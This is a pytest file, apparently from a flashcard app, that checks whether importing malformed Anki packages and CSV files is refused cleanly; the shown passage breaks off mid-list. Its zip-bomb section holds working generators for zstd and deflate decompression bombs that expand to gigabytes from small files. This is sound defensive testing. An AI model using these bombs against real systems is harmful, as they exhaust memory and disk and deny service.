"""Bad input at the door, met the way a person meets it: `transfer.import_file` into a real
collection on disk.

Each kind of bad file the import issue lists (not a zip, a truncated zip, a zip bomb, a package
from a future Anki, missing tables or columns, a note with the wrong number of fields, a card of
a missing note, invalid UTF-8, unsafe or reserved media names, duplicate media names, a CSV with
ragged rows) must give an `ImportFileError` whose message names the file and the problem, and
leave everything exactly as it was: every row of every table of the collection, its media folder,
and every file around it (the reader's scratch files included; a "before import" backup is the
one file an import may leave). HTML that arrives active (scripts, event handlers, javascript:
links, remote images, remote CSS) is imported as inert text and renders with nothing active or
remote in it.

Property tests mutate real packages (written by Anki with media and scheduling, and by
../shared/peer/synth.py) and real text files (written by Anki and by heatcards) and require a
clean import (counts that add up, a collection `check` finds nothing broken in) or a clean
refusal (an `ImportFileError`, nothing changed), never any other exception.
"""
from __future__ import annotations

import tests.anki_oracle  # noqa: F401,I001  (first: TZ=UTC and ANKI_TEST_MODE before anki loads)

import hashlib
import importlib.util
import io
import json
import os
import re
import shutil
import sqlite3
import struct
import subprocess
import sys
import tempfile
import textwrap
import traceback
import unicodedata
import zipfile
import zlib
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from datetime import timezone
from html.parser import HTMLParser
from pathlib import Path

import pytest
import zstandard
from anki import import_export_pb2
from anki.collection import Collection as AnkiCollection
from anki.collection import ExportAnkiPackageOptions
from hypothesis import HealthCheck, assume, event, given, settings
from hypothesis.errors import InvalidArgument
from hypothesis import strategies as st

from heatcards.backups import BACKUP_FOLDER, BACKUP_SUFFIX
from heatcards.collection import HEAT_DECK_FILE, Collection
from heatcards.errors import HeatcardsError, ImportFileError
from heatcards.model import Rating
from heatcards.storage.check import FindingKind
from heatcards.transfer import export_file, import_file

from .conftest import SHARED

ROOT = Path(__file__).resolve().parents[1]
PICTURE = b"\xff\xd8\xff\xe0 a picture of Paris"
SOUND = b"ID3 le chat miaule"
MODERN_COLLECTION = "collection.anki21b"
LEGACY_COLLECTION = "collection.anki21"
GENANKI_COLLECTION = "collection.anki2"
# What a clean import may leave for `check` to report: these describe the file's content (a
# note whose cards the file left out, media it names but does not hold, memory states that
# differ from what its history gives), not damage the import did.
CONTENT_FINDINGS = {
    FindingKind.NOTES_WITHOUT_CARDS,
    FindingKind.MISSING_MEDIA,
    FindingKind.UNUSED_MEDIA,
    FindingKind.MEMORY_STATE,
}


# ======================================================================================
# Real packages: an Anki collection with media, every card state and a review history
# ======================================================================================


@dataclass(frozen=True)
class AnkiSource:
    """Files Anki wrote from one collection."""

    modern: Path  # .apkg, Anki 2.1.50+ layout
    legacy: Path  # .apkg, "support older Anki versions"
    notes_text: Path  # Anki's "notes in plain text" export (tab-separated, with its headers)


def _study(col: AnkiCollection, cards: dict[str, int]) -> None:
    def answer(name: str, *eases: int) -> None:
        for ease in eases:
            card = col.get_card(cards[name])
            card.start_timer()
            col.sched.answerCard(card, ease)

    answer("France", 4)  # review
    answer("Spain", 4, 1)  # relearning
    answer("Italy", 3)  # learning, second step
    answer("Peru", 4)
    col.sched.suspend_cards([cards["Peru"]])
    col.sched.bury_cards([cards["reverse"]])
    answer("c1", 4)
    col.set_user_flag_for_cards(2, [cards["c2"]])


def _build_anki_source(folder: Path) -> AnkiSource:
    col = AnkiCollection(str(folder / "source.anki2"))
    try:
        col.set_config("fsrs", True)
        geo, films = col.decks.id("Geo"), col.decks.id("Films::Heat")
        picture = col.media.write_data("paris.jpg", PICTURE)
        sound = col.media.write_data("chat.mp3", SOUND)
        cards: dict[str, int] = {}
        for country, capital in (("France", "Paris"), ("Spain", "Madrid"), ("Italy", "Rome"), ("Peru", "Lima")):
            note = col.new_note(col.models.by_name("Basic"))
            note["Front"] = f"Capital of {country}?"
            note["Back"] = f'{capital} <img src="{picture}">' if country == "France" else capital
            note.tags = ["geo", country.lower()]
            col.add_note(note, geo)
            cards[country] = note.card_ids()[0]
        note = col.new_note(col.models.by_name("Basic (and reversed card)"))
        note["Front"], note["Back"] = "Neil McCauley", f"Robert De Niro [sound:{sound}]"
        col.add_note(note, films)
        cards["forward"], cards["reverse"] = note.card_ids()
        note = col.new_note(col.models.by_name("Cloze"))
        note["Text"] = "{{c1::Michael Mann}} directed {{c2::Heat}}"
        col.add_note(note, films)
        cards["c1"], cards["c2"] = note.card_ids()
        _study(col, cards)
        for name, legacy in (("modern", False), ("legacy", True)):
            options = ExportAnkiPackageOptions(with_scheduling=True, with_deck_configs=True, with_media=True, legacy=legacy)
            col.export_anki_package(out_path=str(folder / f"{name}.apkg"), options=options, limit=None)
        col.export_note_csv(
            out_path=str(folder / "anki-notes.txt"), limit=None, with_html=True, with_tags=True, with_deck=True,
            with_notetype=True, with_guid=True,
        )
    finally:
        col.close()
    return AnkiSource(folder / "modern.apkg", folder / "legacy.apkg", folder / "anki-notes.txt")


@pytest.fixture(scope="module")
def anki_source(tmp_path_factory) -> AnkiSource:
    return _build_anki_source(tmp_path_factory.mktemp("anki-source"))


# ======================================================================================
# Taking packages apart and putting them back together
# ======================================================================================


def _unicase(left: str, right: str) -> int:
    a, b = left.casefold(), right.casefold()
    return (a > b) - (a < b)


def edit_database(data: bytes, sql: str) -> bytes:
    """An SQLite file's bytes after running `sql` on them (in memory: no file is written)."""
    data = bytearray(data)
    journal = bytes(data[18:20])
    data[18:20] = b"\x01\x01"  # a WAL-mode header cannot be opened in memory; put it back after
    connection = sqlite3.connect(":memory:")
    try:
        connection.create_collation("unicase", _unicase)
        connection.deserialize(bytes(data))
        connection.executescript(sql)
        out = bytearray(connection.serialize())
    finally:
        connection.close()
    out[18:20] = journal
    return bytes(out)


def query_database(data: bytes, sql: str, parameters: tuple = ()) -> list[tuple]:
    data = bytearray(data)
    data[18:20] = b"\x01\x01"
    connection = sqlite3.connect(":memory:")
    try:
        connection.create_collation("unicase", _unicase)
        connection.deserialize(bytes(data))
        return connection.execute(sql, parameters).fetchall()
    finally:
        connection.close()


def _zstd(data: bytes) -> bytes:
    return zstandard.ZstdCompressor().compress(data)


def _unzstd(data: bytes) -> bytes:
    return zstandard.ZstdDecompressor().decompressobj().decompress(data)


@dataclass
class Package:
    """An Anki package as its members (what the zip holds, before any zstd is undone)."""

    members: dict[str, bytes]
    modern: bool

    @classmethod
    def read(cls, path: Path) -> Package:
        with zipfile.ZipFile(path) as archive:
            members = {name: archive.read(name) for name in archive.namelist()}
        return cls(members, modern=MODERN_COLLECTION in members)

    def copy(self) -> Package:
        return Package(dict(self.members), self.modern)

    @property
    def collection_member(self) -> str:
        if self.modern:
            return MODERN_COLLECTION
        return LEGACY_COLLECTION if LEGACY_COLLECTION in self.members else GENANKI_COLLECTION

    @property
    def database(self) -> bytes:
        """The collection's SQLite file."""
        raw = self.members[self.collection_member]
        return _unzstd(raw) if self.modern else raw

    @database.setter
    def database(self, data: bytes) -> None:
        self.members[self.collection_member] = _zstd(data) if self.modern else data

    def edit(self, sql: str) -> Package:
        self.database = edit_database(self.database, sql)
        return self

    @property
    def media(self) -> list[tuple[str, str]]:
        """(zip member, file name) of each media file the `media` member lists."""
        raw = self.members.get("media")
        if raw is None:
            return []
        if self.modern:
            entries = import_export_pb2.MediaEntries.FromString(_unzstd(raw)).entries
            return [(str(index), entry.name) for index, entry in enumerate(entries)]
        return list(json.loads(raw).items())

    def set_media(self, files: list[tuple[str, bytes]]) -> Package:
        """Replace the media: (name, bytes) each, listed the way this layout lists them."""
        for member, _ in self.media:
            self.members.pop(member, None)
        entries = []
        for index, (name, data) in enumerate(files):
            self.members[str(index)] = _zstd(data) if self.modern else data
            entries.append(import_export_pb2.MediaEntries.MediaEntry(name=name, size=len(data), sha1=hashlib.sha1(data).digest()))
        if self.modern:
            self.members["media"] = _zstd(import_export_pb2.MediaEntries(entries=entries).SerializeToString())
        else:
            self.members["media"] = json.dumps({str(i): name for i, (name, _) in enumerate(files)}).encode()
        return self

    def media_bytes(self, member: str) -> bytes:
        raw = self.members[member]
        return _unzstd(raw) if self.modern else raw

    def save(self, path: Path) -> Path:
        # modern payloads are zstd already, so Anki stores them; legacy members are deflated
        method = zipfile.ZIP_STORED if self.modern else zipfile.ZIP_DEFLATED
        with zipfile.ZipFile(path, "w") as archive:
            for name, data in self.members.items():
                info = zipfile.ZipInfo(name, date_time=(2024, 1, 1, 0, 0, 0))
                info.compress_type = method
                archive.writestr(info, data)
        return path


def anki_package(source: AnkiSource, layout: str) -> Package:
    return Package.read(source.modern if layout == "modern" else source.legacy)


def first_row(package: Package, sql: str) -> tuple:
    rows = query_database(package.database, sql)
    assert rows, sql
    return rows[0]


# ======================================================================================
# The collection, and everything around it, before and after
# ======================================================================================


def populate(collection: Collection) -> None:
    """Something of everything: a preset, nested decks, notes, a review, a media file."""
    preset = collection.add_preset("Careful")
    deck = collection.add_deck("Mine::Words")
    collection.set_deck_preset(deck.id, preset.id)
    picture = collection.add_media(b"\x89PNG mine", "mine.png")
    for front in ("uno", "dos", "tres"):
        collection.add_note("Basic", [front, f'<img src="{picture}">'], "Mine::Words", tags=["mine"])
    card, _ = collection.next_card(collection.deck_named("Mine::Words"))
    collection.answer(card.id, Rating.GOOD)


def open_collection(path: Path) -> Collection:
    return Collection(path, calendar_tz=timezone.utc, install_heat_deck=False)


def database_rows(connection: sqlite3.Connection) -> dict[str, object]:
    """Every row of every table (the full-text index's own tables included), and the schema."""
    schema = [tuple(row) for row in connection.execute("SELECT type, name, tbl_name, sql FROM sqlite_master ORDER BY type, name")]
    rows: dict[str, object] = {"schema": schema, "user_version": connection.execute("PRAGMA user_version").fetchone()[0]}
    for kind, name, _, sql in schema:
        if kind == "table" and not (sql or "").upper().startswith("CREATE VIRTUAL"):
            rows[name] = sorted((tuple(row) for row in connection.execute(f'SELECT * FROM "{name}"')), key=repr)
    return rows


def files_under(root: Path, collection_path: Path) -> dict[str, str]:
    """Every file and folder under `root` with a hash of its bytes, but the collection's database
    files (compared row by row instead) and the backups folder beside it (an import backs up first)."""
    database_files = {collection_path.with_name(collection_path.name + suffix) for suffix in ("", "-wal", "-shm", "-journal", ".lock")}
    backups = collection_path.parent / BACKUP_FOLDER
    listing = {}
    for path in sorted(root.rglob("*")):
        if path in database_files or path == backups or (path.parent == backups and path.name.endswith(BACKUP_SUFFIX)):
            continue
        name = path.relative_to(root).as_posix()
        if path.is_symlink():
            listing[name] = f"link to {os.readlink(path)}"
        elif path.is_file():
            listing[name] = hashlib.sha1(path.read_bytes()).hexdigest()
        else:
            listing[name] = "folder"
    return listing


@dataclass
class Home:
    """A person's collection in `root`/profile, files to import in `root`/incoming, the reader's
    scratch folder in `root`/scratch and the working directory in `root`/cwd."""

    root: Path
    collection: Collection

    @property
    def incoming(self) -> Path:
        return self.root / "incoming"

    def state(self) -> tuple[dict[str, object], dict[str, str]]:
        return database_rows(self.collection.store.db.conn), files_under(self.root, self.collection.path)

    def counts(self) -> dict[str, int]:
        connection = self.collection.store.db.conn
        counts = {table: connection.execute(f"SELECT count(*) FROM {table}").fetchone()[0] for table in ("notes", "cards", "revlog")}
        counts["media"] = sum(1 for _ in self.collection.media_folder.iterdir())
        return counts


@contextmanager
def home_in(root: Path, template: Path | None = None) -> Iterator[Home]:
    """A populated collection in `root` (a copy of `template`'s profile folder when given)."""
    for folder in ("incoming", "scratch", "cwd"):
        (root / folder).mkdir(parents=True, exist_ok=True)
    if template is not None:
        shutil.copytree(template, root / "profile")
    collection = open_collection(root / "profile" / "col.heatcards")
    try:
        if template is None:
            populate(collection)
        yield Home(root, collection)
    finally:
        collection.close()


@pytest.fixture
def home(tmp_path, monkeypatch) -> Iterator[Home]:
    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path / "scratch"))
    with home_in(tmp_path) as made:
        monkeypatch.chdir(tmp_path / "cwd")  # a file written to a relative path would land here
        yield made


def refused(home: Home, path: Path, *problem: str, **options) -> str:
    """Import `path`; it must be refused with an `ImportFileError` naming the file and matching each
    of the `problem` patterns, and leave the collection and every file around it as they were.
    Returns the message."""
    before = home.state()
    try:
        report = import_file(home.collection, path, **options)
    except Exception as error:  # noqa: BLE001  (any other kind is the failure being looked for)
        if not isinstance(error, ImportFileError):
            raise AssertionError(f"{type(error).__name__} instead of ImportFileError: {error}") from error
        message = str(error)
    else:
        raise AssertionError(f"{path.name} was imported instead of refused: {report[0]}")
    assert path.name in message, message
    about = message.replace(str(path), "<file>").replace(path.name, "<file>")  # the problem, not the file's name
    for pattern in problem:
        assert re.search(pattern, about, re.IGNORECASE), f"{pattern!r} not in {message!r}"
    after = home.state()
    assert after[1] == before[1], "files changed around the collection"
    assert after[0] == before[0], "the collection's rows changed"
    # and the collection is not left in a transaction: it takes a change, and checks clean
    home.collection.add_note("Basic", ["after the refusal", ""], "Default")
    assert home.collection.check().findings == ()
    return message


# ======================================================================================
# Not a zip, a truncated zip
# ======================================================================================


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("notes.apkg", b"front,back\nhola,hello\n"),
        ("empty.apkg", b""),
        ("picture.apkg", b"\x89PNG\r\n\x1a\n" + bytes(200)),
        ("gzipped.colpkg", b"\x1f\x8b\x08\x00" + bytes(100)),
        ("deck.apkg", b"PK\x03\x04 only the start of a zip"),
    ],
)
def test_a_file_that_is_not_a_zip_is_refused(home, name, content):
    path = home.incoming / name
    path.write_bytes(content)
    refused(home, path, "not an Anki package|not a zip")


@pytest.mark.parametrize("keep", [0.5, 0.9, 0.999])
@pytest.mark.parametrize("layout", ["modern", "legacy"])
def test_a_truncated_package_is_refused(home, anki_source, layout, keep):
    data = (anki_source.modern if layout == "modern" else anki_source.legacy).read_bytes()
    path = home.incoming / "cut.apkg"
    path.write_bytes(data[: int(len(data) * keep)])
    refused(home, path, "not an Anki package|truncated|not a zip")


@pytest.mark.parametrize("layout", ["modern", "legacy"])
def test_a_package_whose_collection_was_cut_short_is_refused(home, anki_source, layout):
    """The zip is whole, the collection inside it is not (half its bytes, honestly listed)."""
    package = anki_package(anki_source, layout)
    raw = package.members[package.collection_member]
    package.members[package.collection_member] = raw[: len(raw) // 2]
    refused(home, package.save(home.incoming / "half.apkg"), package.collection_member, "truncated|incomplete|cut short|ends early|damaged|malformed|corrupt")


def test_a_modern_package_whose_media_file_was_cut_short_is_refused(home, anki_source):
    """A media member (zstd) cut in half, the zip honest about the bytes it holds: importing a
    damaged picture without a word is no clean import (the media list gives its size and SHA-1,
    and the zstd frame itself is incomplete)."""
    package = anki_package(anki_source, "modern")
    member, name = next((m, n) for m, n in package.media if n == "paris.jpg")
    package.members[member] = package.members[member][: len(package.members[member]) // 2]
    message = refused(home, package.save(home.incoming / "cut-media.apkg"), "media")
    assert "paris.jpg" in message or f"'{member}'" in message


def test_a_legacy_package_whose_media_file_was_cut_short_is_refused(home, anki_source):
    """A legacy media member cut in half while the zip still lists its full size and CRC."""
    package = anki_package(anki_source, "legacy")
    member, name = next((m, n) for m, n in package.media if n == "paris.jpg")
    entries = []
    for each, data in package.members.items():
        if each == member:
            entries.append((each, data[: len(data) // 2], zipfile.ZIP_STORED, len(data), zlib.crc32(data)))
        else:
            entries.append(stored(each, data))
    path = home.incoming / "cut-media.apkg"
    path.write_bytes(raw_zip(entries))
    message = refused(home, path, "media")
    assert "paris.jpg" in message or f"'{member}'" in message


# ======================================================================================
# Zip bombs: a member that expands to far more than any collection, from a small file
# ======================================================================================

GIB = 1 << 30
ZSTD_BLOCK = 128 * 1024  # the largest block zstd has


def zstd_bomb(size: int) -> bytes:
    """A zstd frame of `size` zero bytes made of RLE blocks (4 bytes per 128 KiB; the frame
    header declares the size, as zstd itself writes it)."""
    blocks, rest = divmod(size, ZSTD_BLOCK)
    assert rest == 0 and blocks > 0
    header = struct.pack("<IBB", 0xFD2FB528, 0xC0, 0x38) + struct.pack("<Q", size)  # 8-byte size, 128 KiB window
    block = (ZSTD_BLOCK << 3 | 1 << 1).to_bytes(3, "little") + b"\x00"
    last = (ZSTD_BLOCK << 3 | 1 << 1 | 1).to_bytes(3, "little") + b"\x00"
    return header + block * (blocks - 1) + last


def test_the_zstd_bomb_is_what_it_claims():
    bomb = zstd_bomb(4 * ZSTD_BLOCK)
    assert zstandard.ZstdDecompressor().decompress(bomb) == bytes(4 * ZSTD_BLOCK)
    assert len(zstd_bomb(8 * GIB)) < 300_000


@dataclass(frozen=True)
class DeflatedBomb:
    data: bytes  # raw deflate
    size: int
    crc: int


@pytest.fixture(scope="module")
def deflated_bomb() -> DeflatedBomb:
    """1 GiB of zeros deflated (about 1 MB), as a legacy package's zip would hold it."""
    compressor = zlib.compressobj(9, zlib.DEFLATED, -15, 9, zlib.Z_RLE)
    chunk, parts, crc = bytes(1 << 24), [], 0
    for _ in range(GIB // len(chunk)):
        parts.append(compressor.compress(chunk))
        crc = zlib.crc32(chunk, crc)
    parts.append(compressor.flush())
    return DeflatedBomb(b"".join(parts), GIB, crc)


def raw_zip(entries: list[tuple[str, bytes, int, int, int]]) -> bytes:
    """A zip laid out by hand from (name, stored bytes, method, size, CRC) entries: zipfile cannot
    write data that is compressed already, nor list a size and CRC other than the data's."""
    out = io.BytesIO()
    central = []
    for name, data, method, size, crc in entries:
        offset = out.tell()
        encoded = name.encode()
        out.write(struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0))
        out.write(encoded)
        out.write(data)
        central.append(
            struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, method, 0, 0x21, crc, len(data), size, len(encoded), 0, 0, 0, 0, 0, offset)
            + encoded
        )
    start = out.tell()
    for record in central:
        out.write(record)
    out.write(struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(central), len(central), out.tell() - start, start, 0))
    return out.getvalue()


def stored(name: str, data: bytes) -> tuple[str, bytes, int, int, int]:
    return (name, data, zipfile.ZIP_STORED, len(data), zlib.crc32(data))


def zip_with_raw_member(members: dict[str, bytes], bomb_name: str, bomb: DeflatedBomb) -> bytes:
    """A zip of `members` (stored) and `bomb` as a deflated member listed with its true size and CRC."""
    entries = [stored(name, data) for name, data in members.items()]
    return raw_zip([*entries, (bomb_name, bomb.data, zipfile.ZIP_DEFLATED, bomb.size, bomb.crc)])


def test_the_deflated_bomb_is_what_it_claims(deflated_bomb):
    data = zip_with_raw_member({"meta": b"\x08\x02"}, "collection.anki21", deflated_bomb)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        info = archive.getinfo("collection.anki21")
        assert (info.file_size, info.compress_type) == (GIB, zipfile.ZIP_DEFLATED)
        assert info.file_size / len(data) > 500
        with archive.open(info) as member:
            assert member.read(1 << 20) == bytes(1 << 20)


# The bombs are imported in a child process whose memory (1 GiB more than it uses once loaded)
# and file sizes (64 MiB) are capped, so that a reader without a cap of its own fails there
# (MemoryError, or "File too large") instead of filling this machine's memory or disk.
_BOMB_CHILD = textwrap.dedent(
    """
    import json, resource, signal, sys, tempfile, traceback
    from datetime import timezone
    from heatcards.collection import Collection
    from heatcards.errors import ImportFileError
    from heatcards.transfer import import_file
    tempfile.tempdir = sys.argv[3]
    signal.signal(signal.SIGXFSZ, signal.SIG_IGN)  # a write past the cap fails instead of killing
    resource.setrlimit(resource.RLIMIT_FSIZE, (64 << 20, resource.getrlimit(resource.RLIMIT_FSIZE)[1]))
    with open("/proc/self/status") as status:
        in_use = next(int(line.split()[1]) * 1024 for line in status if line.startswith("VmSize:"))
    resource.setrlimit(resource.RLIMIT_AS, (in_use + (1 << 30), resource.getrlimit(resource.RLIMIT_AS)[1]))
    collection = Collection(sys.argv[1], calendar_tz=timezone.utc, install_heat_deck=False)
    try:
        report, _ = import_file(collection, sys.argv[2])
        result = {"outcome": "imported", "report": repr(report)}
    except ImportFileError as error:
        result = {"outcome": "refused", "message": str(error)}
    except BaseException as error:
        result = {"outcome": type(error).__name__, "message": str(error)[:500], "traceback": traceback.format_exc()[-3000:]}
    finally:
        collection.close()
    print(json.dumps(result))
    """
)


def refused_in_a_child(home: Home, path: Path) -> str:
    """`refused`, with the import run by a child process under memory and file-size caps."""
    collection_path = home.collection.path
    home.collection.close()
    reader = sqlite3.connect(f"file:{collection_path}?mode=ro", uri=True)
    before = database_rows(reader), files_under(home.root, collection_path)
    reader.close()
    child = subprocess.run(
        [sys.executable, "-c", _BOMB_CHILD, str(collection_path), str(path), str(home.root / "scratch")],
        capture_output=True, text=True, timeout=120, cwd=home.root / "cwd",
        env={**os.environ, "PYTHONPATH": str(ROOT)},
    )
    home.collection = open_collection(collection_path)  # (the fixture closes it)
    assert child.returncode == 0, child.stderr[-3000:]
    result = json.loads(child.stdout.strip().splitlines()[-1])
    reader = sqlite3.connect(f"file:{collection_path}?mode=ro", uri=True)
    after = database_rows(reader), files_under(home.root, collection_path)
    reader.close()
    assert result["outcome"] == "refused", f"{result['outcome']}: {result.get('message')}\n{result.get('traceback', '')}"
    assert path.name in result["message"], result["message"]
    assert after[1] == before[1], "files changed around the collection"
    assert after[0] == before[0], "the collection's rows changed"
    return result["message"]


BOMB_WORDS = "too large|too big|expands|bomb|compression ratio|exceeds"


def test_a_zstd_bomb_as_the_collection_is_refused(home, anki_source):
    """A modern package whose collection.anki21b expands to 8 GiB from a quarter of a megabyte."""
    package = anki_package(anki_source, "modern")
    package.members[MODERN_COLLECTION] = zstd_bomb(8 * GIB)
    path = package.save(home.incoming / "bomb.apkg")
    assert path.stat().st_size < 400_000
    message = refused_in_a_child(home, path)
    assert re.search(BOMB_WORDS, message, re.IGNORECASE), message


def test_a_zstd_bomb_as_a_media_file_is_refused(home, anki_source):
    """A modern package whose media file "paris.jpg" expands to almost 4 GiB (the most its listed
    size, a 32-bit number, can say; and it says so)."""
    size = 4 * GIB - ZSTD_BLOCK
    package = anki_package(anki_source, "modern")
    member = next(m for m, n in package.media if n == "paris.jpg")
    package.members[member] = zstd_bomb(size)
    entries = import_export_pb2.MediaEntries.FromString(_unzstd(package.members["media"]))
    entries.entries[int(member)].size = size
    package.members["media"] = _zstd(entries.SerializeToString())
    message = refused_in_a_child(home, package.save(home.incoming / "media-bomb.apkg"))
    assert re.search(BOMB_WORDS, message, re.IGNORECASE), message
    assert "paris.jpg" in message or f"'{member}'" in message


def test_a_deflate_bomb_as_the_collection_is_refused(home, anki_source, deflated_bomb):
    """A legacy package whose collection.anki21 is 1 GiB deflated into 1 MB (the zip says so)."""
    package = anki_package(anki_source, "legacy")
    members = {name: data for name, data in package.members.items() if name != LEGACY_COLLECTION}
    path = home.incoming / "deflate-bomb.apkg"
    path.write_bytes(zip_with_raw_member(members, LEGACY_COLLECTION, deflated_bomb))
    message = refused_in_a_child(home, path)
    assert re.search(BOMB_WORDS, message, re.IGNORECASE), message


# ======================================================================================
# A package from a future Anki
# ======================================================================================


@pytest.mark.parametrize(
    ("change", "problem"),
    [
        ("meta 4", r"version 4 .*newer|newer .*version 4"),
        ("meta 9, new member", r"version 9 .*newer|newer .*version 9"),
        ("schema 19", r"schema 19 .*newer|newer .*schema 19"),
    ],
)
def test_a_package_from_a_future_anki_is_refused(home, anki_source, change, problem):
    package = anki_package(anki_source, "modern")
    if change == "meta 4":
        package.members["meta"] = b"\x08\x04"
    elif change == "meta 9, new member":
        package.members["meta"] = b"\x08\x09"
        package.members["collection.anki21c"] = package.members.pop(MODERN_COLLECTION)
    else:
        package.edit("UPDATE col SET ver = 19")
    refused(home, package.save(home.incoming / "future.apkg"), problem)


def test_a_legacy_package_with_a_future_schema_is_refused(home, anki_source):
    package = anki_package(anki_source, "legacy").edit("UPDATE col SET ver = 19")
    refused(home, package.save(home.incoming / "future-legacy.apkg"), r"schema 19")


# ======================================================================================
# Missing tables and columns
# ======================================================================================


MISSING_TABLES = [
    ("modern", "notes"), ("modern", "cards"), ("modern", "revlog"), ("modern", "col"),
    ("modern", "notetypes"), ("modern", "fields"), ("modern", "templates"), ("modern", "decks"), ("modern", "deck_config"),
    ("legacy", "notes"), ("legacy", "cards"), ("legacy", "revlog"), ("legacy", "col"),
]


@pytest.mark.parametrize(("layout", "table"), MISSING_TABLES)
def test_a_package_missing_a_table_is_refused(home, anki_source, layout, table):
    package = anki_package(anki_source, layout).edit(f"DROP TABLE {table}")
    refused(home, package.save(home.incoming / f"no-{table}.apkg"), rf"\b{table}\b")


MISSING_COLUMNS = [
    ("modern", "notes", "flds"), ("modern", "notes", "guid"), ("modern", "notes", "mid"),
    ("modern", "cards", "nid"), ("modern", "cards", "due"), ("modern", "cards", "data"),
    ("modern", "revlog", "ease"), ("modern", "col", "crt"),
    ("modern", "notetypes", "config"), ("modern", "decks", "kind"), ("modern", "templates", "config"),
    ("legacy", "notes", "flds"), ("legacy", "cards", "queue"), ("legacy", "revlog", "type"), ("legacy", "col", "models"),
]


@pytest.mark.parametrize(("layout", "table", "column"), MISSING_COLUMNS)
def test_a_package_missing_a_column_is_refused(home, anki_source, layout, table, column):
    package = anki_package(anki_source, layout)
    indexes = query_database(
        package.database, "SELECT name FROM sqlite_master WHERE type = 'index' AND tbl_name = ? AND sql LIKE ?", (table, f"%{column}%")
    )
    drops = "".join(f"DROP INDEX {name};" for (name,) in indexes)
    package.edit(f"{drops} ALTER TABLE {table} DROP COLUMN {column}")
    refused(home, package.save(home.incoming / f"no-{table}-{column}.apkg"), rf"\b{column}\b")


# ======================================================================================
# Notes, cards and text that do not fit
# ======================================================================================


@pytest.mark.parametrize("layout", ["modern", "legacy"])
@pytest.mark.parametrize(("fields", "notetype"), [("one field only", "Basic"), ("a\x1fb\x1fc", "Basic"), ("x\x1fy\x1fz", "Cloze")])
def test_a_note_with_the_wrong_number_of_fields_is_refused(home, anki_source, layout, fields, notetype):
    package = anki_package(anki_source, layout)
    if package.modern:
        (note_id,) = first_row(package, f"SELECT n.id FROM notes n JOIN notetypes t ON t.id = n.mid WHERE t.name = '{notetype}' ORDER BY n.id")
    else:
        models = json.loads(first_row(package, "SELECT models FROM col")[0])
        (model_id,) = [int(i) for i, m in models.items() if m["name"] == notetype]
        (note_id,) = first_row(package, f"SELECT id FROM notes WHERE mid = {model_id} ORDER BY id")
    package.edit(f"UPDATE notes SET flds = '{fields}' WHERE id = {note_id}")
    count = fields.count("\x1f") + 1
    message = refused(home, package.save(home.incoming / "fields.apkg"), rf"\b{count} fields?\b", notetype)
    assert str(note_id) in message


@pytest.mark.parametrize("layout", ["modern", "legacy"])
def test_a_card_of_a_missing_note_is_refused(home, anki_source, layout):
    package = anki_package(anki_source, layout)
    (card_id,) = first_row(package, "SELECT id FROM cards ORDER BY id")
    package.edit(f"UPDATE cards SET nid = 4242424242 WHERE id = {card_id}")
    message = refused(home, package.save(home.incoming / "orphan.apkg"), "4242424242", "note")
    assert str(card_id) in message


INVALID_UTF8 = b"caf\xe9 \xff\xfe \xc3\x28"  # Latin-1 é, bytes UTF-8 never has, a broken sequence


@pytest.mark.parametrize(
    ("layout", "sql"),
    [
        ("modern", "UPDATE notes SET flds = CAST(X'{hex}1f4261636b' AS TEXT) WHERE id = (SELECT min(id) FROM notes)"),
        ("legacy", "UPDATE notes SET flds = CAST(X'{hex}1f4261636b' AS TEXT) WHERE id = (SELECT min(id) FROM notes)"),
        ("modern", "UPDATE notes SET tags = CAST(X'20{hex}20' AS TEXT) WHERE id = (SELECT min(id) FROM notes)"),
        # (the unique indexes on names go first: building them would compare the bad bytes as text)
        ("modern", "DROP INDEX idx_notetypes_name; UPDATE notetypes SET name = CAST(X'{hex}' AS TEXT) WHERE name = 'Basic'"),
        ("modern", "DROP INDEX idx_decks_name; UPDATE decks SET name = CAST(X'{hex}' AS TEXT) WHERE name = 'Geo'"),
        (
            "modern",
            "DROP INDEX idx_fields_name_ntid; "
            "UPDATE fields SET name = CAST(X'{hex}' AS TEXT) WHERE ord = 1 AND ntid = (SELECT id FROM notetypes WHERE name = 'Basic')",
        ),
        ("legacy", "UPDATE col SET models = CAST(X'{hex}' AS TEXT)"),
    ],
    ids=["modern field", "legacy field", "tags", "note type name", "deck name", "field name", "legacy note types"],
)
def test_invalid_utf8_in_a_package_is_refused(home, anki_source, layout, sql):
    package = anki_package(anki_source, layout).edit(sql.format(hex=INVALID_UTF8.hex()))
    refused(home, package.save(home.incoming / "latin1.apkg"), "UTF-8|utf8|unicode|decode")


def test_invalid_utf8_in_a_legacy_media_list_is_refused(home, anki_source):
    package = anki_package(anki_source, "legacy")
    package.members["media"] = b'{"0": "' + INVALID_UTF8 + b'.jpg", "1": "chat.mp3"}'
    refused(home, package.save(home.incoming / "latin1-media.apkg"), "media", "UTF-8|utf8|unicode|decode")


def test_invalid_utf8_in_a_modern_media_list_is_refused(home, anki_source):
    package = anki_package(anki_source, "modern")
    entries = import_export_pb2.MediaEntries.FromString(_unzstd(package.members["media"]))
    # protobuf strings must be UTF-8: write the entry's bytes by hand (field 1 of MediaEntry)
    name = INVALID_UTF8 + b".jpg"
    first = entries.entries[0]
    raw_entry = b"\x0a" + bytes([len(name)]) + name + b"\x10" + _varint(first.size) + b"\x1a\x14" + first.sha1
    rest = b"".join(b"\x0a" + _varint(len(e.SerializeToString())) + e.SerializeToString() for e in entries.entries[1:])
    package.members["media"] = _zstd(b"\x0a" + _varint(len(raw_entry)) + raw_entry + rest)
    refused(home, package.save(home.incoming / "latin1-media.apkg"), "media", "UTF-8|utf8|unicode|decode")


def _varint(value: int) -> bytes:
    out = bytearray()
    while True:
        byte, value = value & 0x7F, value >> 7
        out.append(byte | (0x80 if value else 0))
        if not value:
            return bytes(out)


@pytest.mark.parametrize(
    ("name", "content", "line"),
    [
        ("latin1.csv", b"front,back\ncaf\xe9,coffee\n", 2),
        ("latin1.tsv", b"front\tback\nhola\t\xff\xfe\n", 2),
        ("broken.txt", b"#separator:tab\n#html:false\nuno\tone\ndos\t\xc3\x28\n", 4),
